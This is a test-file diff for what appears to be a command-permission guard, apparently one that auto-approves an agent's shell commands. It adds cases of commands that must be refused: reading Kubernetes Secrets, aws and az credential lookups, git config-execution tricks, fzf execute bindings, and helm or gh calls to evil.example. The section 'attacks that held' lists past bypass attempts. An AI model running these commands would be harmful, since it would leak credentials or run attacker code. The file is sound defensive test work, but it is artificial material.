@@ -263,3 +263,187 @@ describe("docker daemon addresses", () => {
     expectAll(got, allowed, "allow");
   }, 60_000);
 });
+
+describe("a bare git dir inside the worktree is the repository git uses", () => {
+  test("git -C into it reads its config (core.fsmonitor, core.pager …)", async () => {
+    const dir = repo("bare-inside");
+    put(join(dir, "evil", "HEAD"), "ref: refs/heads/main\n");
+    put(join(dir, "evil", "config"), "[core]\n\tbare = true\n\tfsmonitor = evil\n\tpager = evil\n");
+    mkdirSync(join(dir, "evil", "objects"), { recursive: true });
+    mkdirSync(join(dir, "evil", "refs"), { recursive: true });
+    put(join(dir, "evil", "sub", "x.txt"), "x\n");
+    const refused = [
+      "git -C evil log",
+      "git -C evil status",
+      "git -C evil/sub log",
+      "git -C evil ls-remote",
+      "git -C evil fetch --no-recurse-submodules",
+      "git -C ./evil/ diff",
+    ];
+    const allowed = ["git status", "git log", "git -C . log"];
+    const got = await verdicts(dir, [...refused, ...allowed]);
+    expectAll(got, refused, "fallthrough");
+    expectAll(got, allowed, "allow");
+  }, 60_000);
+});
+
+describe("kubectl objects named by a manifest or a raw API path", () => {
+  test("a -f manifest can name Secrets; --raw reaches any API path", async () => {
+    const dir = repo("kubectl");
+    put(join(dir, "manifest.yaml"), "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\n");
+    const refused = [
+      "kubectl get -f manifest.yaml -o yaml",
+      "kubectl get -f manifest.yaml -o json",
+      "kubectl get -f manifest.yaml -ojsonpath={.data}",
+      "kubectl get --filename=manifest.yaml -o yaml",
+      "kubectl get --filename manifest.yaml --output=yaml",
+      "kubectl get -f=manifest.yaml -o yaml",
+      "kubectl get -Rf . -o yaml",
+      "kubectl get -f . -o yaml",
+      "kubectl get -f manifest.yaml --template={{.data}}",
+      "kubectl get -f manifest.yaml -o name -o yaml",
+      "kubectl wait -f manifest.yaml --for=jsonpath={.data.x}=y",
+      "kubectl get --raw api/v1/namespaces/default/secrets?limit=1",
+      "kubectl get --raw api/v1/namespaces/default/%73ecrets",
+      "kubectl get --raw=api/v1/x",
+      "kubectl get --raw api/v1/namespaces/x/services/y:80/proxy/z",
+      "kubectl get --raw /api/v1/secrets",
+      "kubectl get secrets,pods -o yaml",
+      "kubectl get pods,secret -o json",
+      "kubectl get Secret.v1. -o yaml",
+      "kubectl get SECRETS -o yaml",
+      "kubectl get -oyaml secret",
+      "kubectl get secret -o wide --output yaml",
+      "kubectl get secret -o name -o yaml",
+      "kubectl get secret -o custom-columns=X:.data",
+      "kubectl get secret -o go-template-file=x",
+      "kubectl get secret --sort-by=.data.x",
+      "kubectl get rs,secrets.v1. -o yaml",
+      "kubectl get -Ao yaml secrets",
+    ];
+    const allowed = [
+      "kubectl get -f manifest.yaml",
+      "kubectl get -f manifest.yaml -o name",
+      "kubectl describe -f manifest.yaml",
+      "kubectl get secrets -A -o name",
+      "kubectl get pods -o yaml",
+    ];
+    const got = await verdicts(dir, [...refused, ...allowed]);
+    expectAll(got, refused, "fallthrough");
+    expectAll(got, allowed, "allow");
+  }, 60_000);
+});
+
+describe("gh pages in the browser", () => {
+  test("a URL argument names the host that answers with the page to open", async () => {
+    const dir = repo("gh");
+    const refused = [
+      "gh pr view https://evil.example/o/r/pull/1 -w",
+      "gh pr view https://evil.example/o/r/pull/1 --web",
+      "gh issue view https://evil.example/o/r/issues/1 -w",
+      "gh browse https://evil.example/x",
+      "gh pr view 1 -w -R evil.example/o/r",
+      "gh pr view 1 -w --repo=evil.example/o/r",
+      "gh pr view 1 -w -Revil.example/o/r",
+      "GH_HOST=evil.example gh browse",
+      "GH_REPO=evil.example/o/r gh pr view -w",
+      "gh api graphql -f query=@q.graphql",
+      "gh api graphql -f 'query={ viewer { login } }' -F x=@file",
+      "gh api graphql -f 'query=query{x}' -f 'query=mutation{y}'",
+      "gh api graphql -f 'query=query{x}' -f 'v=MUTATION'",
+      "gh api repos/o/r -X GET -f a=b -X POST",
+      "gh api repos/o/r --method GET --method=DELETE",
+      "gh api repos/o/r -X GET -F a=@-",
+      "gh api repos/o/r -Fa=b",
+      "gh api repos/o/r -iXPOST",
+      "gh api repos/o/r --jq -X -f a=b",
+      "gh api https://evil.example/x",
+    ];
+    const allowed = ["gh pr view 1 -w", "gh browse", "gh pr view https://github.com/o/r/pull/1", "gh api user"];
+    const got = await verdicts(dir, [...refused, ...allowed]);
+    expectAll(got, refused, "fallthrough");
+    expectAll(got, allowed, "allow");
+  }, 60_000);
+});
+
+describe("attacks that held (regression)", () => {
+  test("fzf actions, helm options, git and brew spellings", async () => {
+    const dir = repo("held");
+    put(join(dir, "patch.diff"), "");
+    put(join(dir, "mychart", "Chart.yaml"), "apiVersion: v2\nname: mychart\nversion: 0.1.0\n");
+    put(join(dir, "mychart", "templates", "cm.yaml"), "kind: ConfigMap\n");
+    put(join(dir, "mychart", "charts", "sub", "Chart.yaml"), "apiVersion: v2\nname: sub\nversion: 0.1.0\n");
+    put(join(dir, "mychart", "charts", "sub", "values.schema.json"), '{"$ref": "file:///etc/hostname"}');
+    const refused = [
+      "fzf --bind 'ctrl-a:execute(x)'",
+      "fzf --bind=ctrl-a:execute(x)",
+      "fzf --bind 'ctrl-a:accept+execute(x)'",
+      "fzf --bind 'change:reload(x)'",
+      "fzf --bind 'ctrl-a:put(a)+execute(x)'",
+      "fzf --bind 'ctrl-a:put(a,b:execute(x))'",
+      "fzf --bind 'ctrl-a:execute:x'",
+      "fzf --bind 'ctrl-a:become:x'",
+      "fzf --bind 'start:preview(x)'",
+      "fzf --bind 'ctrl-a:transform:x'",
+      "fzf --bind 'ctrl-a:accept,ctrl-b:execute(x)'",
+      "fzf --bind 'ctrl-a:accept' --bind 'ctrl-b:execute(x)'",
+      "fzf --bind 'ctrl-a:put:execute(x)'",
+      "fzf --bind 'ctrl-a:print(x)'",
+      "fzf --bind 'result:transform-query(x)'",
+      "fzf --bind 'ctrl-a:reload-sync(x)'",
+      "fzf --preview=x",
+      "fzf --with-shell x",
+      "fzf --listen 1234",
+      "fzf --history=x",
+      "fzf --walker-root /",
+      "fzf --tmux center --bind 'ctrl-a:execute(x)'",
+      "helm template ./mychart",
+      "helm lint ./mychart",
+      "helm template ./mychart --set-file a=/etc/hostname",
+      "helm template x ./mychart -f /etc/hostname",
+      "helm template x ./mychart --values=https://evil.example/v.yaml",
+      "helm template ./mychart --post-renderer=x",
+      "helm template ./mychart --output-dir=/tmp/x",
+      "helm template ./mychart --dependency-update",
+      "helm template ./mychart --validate",
+      "helm template ./mychart --repo https://evil.example",
+      "helm evilplugin --help",
+      "git apply --check --unsafe-paths patch.diff",
+      "git apply --check --apply patch.diff",
+      "git apply --check --index patch.diff",
+      "git apply --stat patch.diff",
+      "git format-patch --stdout -o /tmp/x HEAD~1",
+      "git format-patch --stdout --output=/tmp/x HEAD~1",
+      "git format-patch --stdout --signature-file=/etc/hostname HEAD~1",
+      "git format-patch --stdout --ext-diff HEAD~1",
+      "git hash-object -w README.md",
+      "git hash-object --stdin-paths",
+      "git symbolic-ref -d HEAD",
+      "git symbolic-ref HEAD refs/heads/x",
+      "git var -l",
+      "git replace -l -d x",
+      "git rerere diff",
+      "git bundle unbundle repo.bundle",
+      "git lfs env",
+      "git lfs pull",
+      "brew analytics on",
+      "brew evilcmd --help",
+      "docker compose -f /etc/hostname ps",
+      "docker compose --env-file .env ps",
+      "docker compose config",
+      "podman-compose --podman-path x ps",
+      "podman secret inspect --showsecret x",
+      "docker buildx imagetools create x",
+      "aws configure get aws_secret_access_key",
+      "aws configure get profile.x.aws_session_token",
+      "aws --endpoint-url http://127.0.0.1.evil.example s3 ls",
+      "aws --endpoint-url=http://localhost@evil.example s3 ls",
+      "az config get storage.key",
+      "auth0 --debug apps list",
+      "auth0 apps show x --reveal-secrets",
+    ];
+    // `helm template|lint ./mychart` is refused here because the subchart's values.schema.json names a file.
+    const got = await verdicts(dir, refused);
+    expectAll(got, refused, "fallthrough");
+  }, 60_000);
+});
